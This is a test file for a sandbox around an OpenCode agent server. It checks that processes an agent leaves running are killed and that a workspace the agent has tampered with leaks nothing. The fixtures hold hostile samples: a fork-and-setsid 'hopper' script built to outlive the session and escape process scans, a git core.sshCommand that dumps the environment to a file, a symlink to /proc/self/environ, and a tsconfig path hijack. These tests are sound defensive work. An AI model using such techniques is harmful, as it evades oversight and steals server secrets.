import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'mocha';
import { createSandbox } from '../../src/adapters/sandbox/createSandbox.ts';
import { CellLimits } from '../../src/core/model/sandboxSpec.ts';
import type { AgentServer } from '../../src/core/ports/agent.ts';
import { ensureBubblewrap } from '../support/ensureBubblewrap.ts';
import { killCell, OpenCodeBench, runTurn } from '../support/openCodeCell.ts';
import { bash, byWord, tools, write } from '../support/sampleScript.ts';

const folder = mkdtempSync(join(tmpdir(), 'reactor-races-'));
after(() => rmSync(folder, { recursive: true, force: true }));

/** Goes from process to process, so that none lives when it is looked for, and counts; each swap of a folder and a link is a chance to lead git out. */
const HOPPER = `import os, sys
n = 0
while True:
    n += 1
    if os.fork(): os._exit(0)
    os.setsid()
    with open(sys.argv[1] + '.new', 'w') as f: f.write(str(n))
    os.rename(sys.argv[1] + '.new', sys.argv[1])
`;
const leave = (file: string): string =>
  `env -i PATH="$PATH" setsid nohup python3 hopper.py ${file} > /dev/null 2>&1 & until [ -s ${file} ]; do :; done`;

describe('What an agent leaves running in a sandboxed cell', function () {
  this.timeout(240_000);
  let bench: OpenCodeBench;
  let server: AgentServer;
  let worktree: string;

  before(async () => {
    ensureBubblewrap();
    bench = await OpenCodeBench.start(
      byWord({
        leaving: tools(write('hopper.py', HOPPER), bash(leave('turn.count'))),
        staying: tools(bash('echo > stays; tail -f /dev/null')),
      }),
      { sandbox: createSandbox({ hidden: [], waysOut: null, folder, env: process.env }) },
    );
    const limits = CellLimits.parse({});
    ({ server, worktree } = await bench.cell('races', { boundary: { network: 'open', read: [], write: [], limits, git: [] } }));
  });
  after(() => bench?.dispose());

  const shell = (command: string) =>
    server.client.shell(
      { sessionId: '', command, folder: '', timeoutMs: 60_000, outputFile: join(bench.root, 'out.log'), maxBytes: 1e6 },
      new AbortController().signal,
    );
  const count = (file: string): string => readFileSync(join(worktree, file), 'utf8');
  /** It counts on while another command begins and ends, unless it is gone. */
  const assertGone = async (file: string): Promise<void> => {
    const before = count(file);
    assert.notEqual(before, '');
    assert.equal((await shell('ls / > /dev/null')).exitCode, 0);
    assert.equal(count(file), before);
  };

  it('is gone when the turn is over, though no look at the processes would find it', async () => {
    const { result } = await runTurn(server, { prompt: 'leaving' });
    assert.equal(result.end, 'done', result.reason);
    await assertGone('turn.count');
  });

  it('is gone when a command of Reactor’s is over, though it has shed every mark', async () => {
    assert.equal((await shell(leave('shell.count'))).exitCode, 0);
    await assertGone('shell.count');
  });

  it('keeps Reactor from looking at the files meanwhile; with nothing running the server stands still for the look', async () => {
    const states = (): string[] =>
      readdirSync('/proc').flatMap((pid) => {
        try {
          const isServer = /opencode\0serve\0/.test(readFileSync(`/proc/${pid}/cmdline`, 'latin1').replace(/^\S*bwrap\0.*/s, ''));
          return isServer && readFileSync(`/proc/${pid}/environ`, 'latin1').includes(bench.root)
            ? [/^State:\s+(\S)/m.exec(readFileSync(`/proc/${pid}/status`, 'latin1'))?.[1] ?? '']
            : [];
        } catch {
          return [];
        }
      });
    assert.deepEqual(await bench.servers.whileStill(server.process, async () => states()), ['T']);
    assert.equal(await server.client.answers(), true);
    const stop = new AbortController();
    const turn = runTurn(server, { prompt: 'staying', signal: stop.signal });
    await bench.appears(join(worktree, 'stays'));
    assert.equal(await bench.servers.whileStill(server.process, async () => 'looked'), null);
    stop.abort();
    assert.equal((await turn).result.end, 'aborted');
    assert.equal(await bench.servers.whileStill(server.process, async () => 'looked'), 'looked');
    assert.equal(existsSync(join(worktree, 'stays')), true);
  });
});

/** Git's folder becomes the agent's own, of a clone that lacks its commit and has a program fetch what it lacks. */
const LACKING = `rm .git && git init -q . && git add -A && git -c user.name=A -c user.email=a@b commit -qm one
git config core.repositoryFormatVersion 1; git config extensions.partialClone far; git config remote.far.promisor true
git config remote.far.url ssh://example.invalid/x; git config core.sshCommand "env > $PWD/stolen;"
rm -rf .git/objects/??; rm docs/rules.md; ln -s /proc/self/environ docs/rules.md; (git rev-list HEAD > found 2>&1; mv stolen within); echo "\${GIT_NO_LAZY_FETCH-unset}" > variable`;

describe('A sandboxed agent server that is started where an agent has been', function () {
  this.timeout(120_000);

  it('starts git, which fetches nothing there by way of a program that the agent has named; instructions that lead to the server are not read', async () => {
    ensureBubblewrap();
    const sandbox = createSandbox({ hidden: [], waysOut: null, folder, env: process.env });
    const bench = await OpenCodeBench.start(byWord({ lacking: tools(bash(LACKING)) }), { sandbox });
    try {
      bench.write('opencode.json', JSON.stringify({ instructions: ['docs/*.md'] }));
      bench.write('docs/rules.md', 'Be brief.\n');
      bench.git('add', '-A');
      bench.git('commit', '-q', '-m', 'instructed');
      const boundary = { network: 'open', read: [], write: [], limits: CellLimits.parse({}), git: [] } as const;
      const request = await bench.request('one', { boundary });
      const read = (name: string): string => readFileSync(join(request.worktree, name), 'utf8');
      const turn = async (prompt: string): Promise<readonly string[]> => {
        const started = await bench.servers.start(request, new AbortController().signal);
        if (!started.ok) throw new Error(started.error.message);
        const { result } = await runTurn(started.value, { prompt });
        started.value.disconnect();
        await killCell(request.cell);
        return result.violations.map(({ detail }) => detail);
      };
      assert.deepEqual(await turn('lacking'), []);
      assert.equal(lstatSync(join(request.worktree, 'docs/rules.md')).isSymbolicLink(), true);
      // A command's own git is as it was.
      assert.deepEqual([read('variable'), existsSync(join(request.worktree, 'within'))], ['unset\n', true]);
      assert.doesNotMatch(read('within'), /OPENCODE_SERVER_PASSWORD/);
      await turn('hello');
      assert.equal(existsSync(join(request.worktree, 'stolen')), false);
      const told = bench.model.calls.map(({ body, prompt }) => ({ prompt, text: JSON.stringify(body) }));
      assert.deepEqual(
        ['lacking', 'hello'].map((prompt) => told.some((call) => call.prompt === prompt && call.text.includes('Be brief.'))),
        [true, false],
      );
      assert.equal(
        told.some(({ text }) => text.includes('OPENCODE_SERVER_PASSWORD')),
        false,
      );
    } finally {
      await bench.dispose();
    }
  });
});

describe('Modules that code of a sandboxed agent server asks for while it runs', function () {
  this.timeout(120_000);

  it('are not looked for where the repository’s tsconfig.json says, and programs find the worktree where they look for it', async () => {
    ensureBubblewrap();
    const sandbox = createSandbox({ hidden: [], waysOut: null, folder, env: process.env });
    const bench = await OpenCodeBench.start(() => ({ text: 'hello' }), { sandbox });
    try {
      bench.write('tsconfig.json', JSON.stringify({ compilerOptions: { baseUrl: '.', paths: { '*': ['./mapped.js'] } } }));
      bench.write('mapped.js', 'module.exports = 1\n');
      bench.git('add', '-A');
      bench.git('commit', '-q', '-m', 'hostile');
      // Of the user's own. It asks as the code within the server's program does.
      const plugin = join(bench.root, 'plugin.mjs');
      writeFileSync(
        plugin,
        `import { createRequire } from 'node:module';
import { writeFileSync } from 'node:fs';
export const Asks = async () => {
  let module = null;
  try { module = createRequire('/$bunfs/root/chunk.js').resolve('esprima'); } catch {}
  writeFileSync('found.json', JSON.stringify({ module, cwd: process.cwd(), variable: process.env.BUN_INSPECT_PRELOAD ?? null }));
  return {};
};
`,
      );
      const config: unknown = JSON.parse(bench.env['OPENCODE_CONFIG_CONTENT'] ?? '');
      bench.env['OPENCODE_CONFIG_CONTENT'] = JSON.stringify({ ...(config as object), plugin: [`file://${plugin}`] });
      const { server, worktree } = await bench.cell('one', {
        boundary: { network: 'open', read: [], write: [], limits: CellLimits.parse({}), git: [] },
      });
      await runTurn(server);
      assert.deepEqual(JSON.parse(readFileSync(join(worktree, 'found.json'), 'utf8')), { module: null, cwd: worktree, variable: null });
    } finally {
      await bench.dispose();
    }
  });
});
